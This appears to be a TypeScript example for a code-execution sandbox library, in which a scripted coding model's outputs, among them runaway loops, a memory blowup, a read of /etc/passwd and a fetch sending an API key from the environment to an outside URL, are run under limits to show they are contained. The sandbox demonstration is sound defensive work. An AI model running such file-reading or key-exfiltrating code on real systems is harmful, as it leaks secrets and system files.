/** An agent that runs the code it writes: in a sandbox, where the worst that it can do is to waste a second. */
import { SandboxExecutor } from '@golden-arch/sandbox'
import { sandboxTool } from '@golden-arch/sandbox/ai-sdk'
import { QuickJsBackend } from '@golden-arch/sandbox/quickjs'
import { generateText, stepCountIs } from 'ai'
import { codingModel } from './scripted-model.ts'

// What the model writes: mistakes first, as models do, and something worse.
const model = codingModel(
  [
    'let n = 0\nwhile (n < 20) console.log("working on it")',
    'const all = new Array(1e8).fill("everything")',
    'while (true) {}',
    'import("node:fs").then((fs) => fs.readFileSync("/etc/passwd", "utf8"))',
    'fetch("https://example.com/?key=" + process.env.API_KEY)',
    'let [a, b] = [0, 1]\nfor (let n = 0; n < 20; n++) [a, b] = [b, a + b]\na',
  ],
  'The 20th Fibonacci number is 6765.',
)

const backend = new QuickJsBackend({ maxConcurrent: 1 })
const sandbox = new SandboxExecutor({ backend, minimumIsolation: 'wasm' })
const limits = { timeoutMs: 1000, memoryLimitBytes: 32 * 1024 * 1024, stdoutLimitBytes: 40 }
const tools = { run_code: sandboxTool({ sandbox, tenantId: 'acme', limits }) }

const prompt = 'Which is the 20th Fibonacci number?'
const { text, steps } = await generateText({ model, prompt, tools, stopWhen: stepCountIs(10) })

for (const { staticToolCalls, staticToolResults } of steps) {
  for (const { input } of staticToolCalls) console.log(input.code.replace(/^/gm, '> '))
  for (const { output } of staticToolResults) console.log(`${JSON.stringify(output)}\n`)
}
console.log(text)

await sandbox.close()
await backend.close()
